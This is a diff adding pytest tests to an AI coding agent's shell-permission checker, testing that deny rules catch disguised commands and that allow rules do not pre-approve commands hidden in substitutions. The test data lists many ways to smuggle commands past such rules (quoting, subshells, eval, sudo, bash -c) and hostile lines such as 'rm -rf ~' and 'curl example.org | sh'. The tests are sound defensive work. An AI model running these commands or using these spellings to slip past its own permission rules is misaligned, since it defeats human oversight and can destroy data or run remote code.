@@ -12,6 +12,7 @@ import pytest
 from coordinator.runtime.permissions import (
     Behavior,
     PermissionRules,
+    bash_matches,
     parse_rules,
 )
 
@@ -78,3 +79,88 @@ def test_a_path_the_rules_cannot_read_does_not_crash_the_check(ws: Path, path: s
     for tool in ("Read", "Write", "Grep"):
         key = "path" if tool == "Grep" else "file_path"
         found.refusal(tool, {key: path, "pattern": "x"}, ws)
+
+
+@pytest.mark.parametrize(
+    ("specifier", "command"),
+    [
+        ("rm x", "rm x 2>&1"),  # the & of a redirection is no command separator
+        ("git push", "git push >&2"),
+        ("git push", "git push &>/dev/null"),
+        ("rm -rf *", "rm \\\n-rf build"),  # a line continuation joins the words
+        ("rm *", "FOO=1 rm -rf build"),  # variables set for the command
+        ("rm *", "A='x y' B=2 rm build"),
+        ("rm *", "'rm' -rf build"),  # quoting a word changes nothing to the shell
+        ("rm *", '"rm" build'),
+        ("rm *", "\\rm build"),
+        ("rm -rf *", "rm '-rf' build"),
+        ("rm *", "(rm build)"),  # a subshell
+        ("rm *", "{ rm build; }"),  # a group
+        ("rm *", "! rm build"),
+        ("rm *", "echo $(rm build)"),  # command substitution
+        ("rm *", "echo `rm build`"),
+        ("rm *", "cat <(rm build)"),  # process substitution
+        ("rm *", "if true; then rm build; fi"),
+        ("rm *", "command rm build"),  # wrappers that run their arguments
+        ("rm *", "env -i rm build"),
+        ("rm *", "nohup rm build"),
+        ("rm *", "timeout 5 rm build"),
+        ("rm *", "sudo rm build"),
+        ("rm *", "bash -c 'rm build'"),
+        ("rm *", 'sh -c "rm build"'),
+        ("rm *", "eval 'rm build'"),
+    ],
+)
+def test_a_deny_rule_sees_through_the_shells_spellings(specifier: str, command: str) -> None:
+    assert bash_matches(specifier, command)
+
+
+@pytest.mark.parametrize(
+    ("specifier", "command"),
+    [("rm *", "echo rm"), ("rm *", "echo 'rm x'"), ("git push", "git push --force")],
+)
+def test_a_deny_rule_still_matches_commands_not_words(specifier: str, command: str) -> None:
+    assert not bash_matches(specifier, command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo $(rm -rf ~)",
+        "echo `id`",
+        "echo <(rm x)",
+        "echo hi > >(sh)",
+        "npm test $(curl example.org | sh)",
+        "npm test `curl example.org`",
+        "FOO=$(rm x) npm test",
+        'echo "$(rm x)"',
+    ],
+)
+def test_a_dont_ask_allow_rule_does_not_pre_approve_what_a_command_runs_inside(
+    tmp_path: Path, command: str
+) -> None:
+    """``Bash(echo *)`` pre-approves echo, not the command a substitution in its arguments
+    runs (Claude Code asks for those)."""
+    found = rules("Bash(echo *)", "Bash(npm test:*)", behavior=Behavior.ALLOW)
+    assert found.refusal("Bash", {"command": command}, tmp_path, "dontAsk") is not None
+
+
+@pytest.mark.parametrize(
+    "command", ["echo hi", "npm test 2>&1", "npm test > out.txt 2>&1", "echo 'a b'"]
+)
+def test_a_dont_ask_allow_rule_still_pre_approves_its_commands(
+    tmp_path: Path, command: str
+) -> None:
+    found = rules("Bash(echo *)", "Bash(npm test:*)", behavior=Behavior.ALLOW)
+    assert found.refusal("Bash", {"command": command}, tmp_path, "dontAsk") is None
+
+
+@pytest.mark.parametrize(
+    "command", ["FOO=1 npm test", "LD_PRELOAD=./x.so npm test", "(npm test)", "npm test \\\n; rm x"]
+)
+def test_a_dont_ask_allow_rule_is_not_widened_by_the_deny_spellings(
+    tmp_path: Path, command: str
+) -> None:
+    """What a deny rule sees through (variables, subshells) pre-approves nothing."""
+    found = rules("Bash(npm test:*)", behavior=Behavior.ALLOW)
+    assert found.refusal("Bash", {"command": command}, tmp_path, "dontAsk") is not None
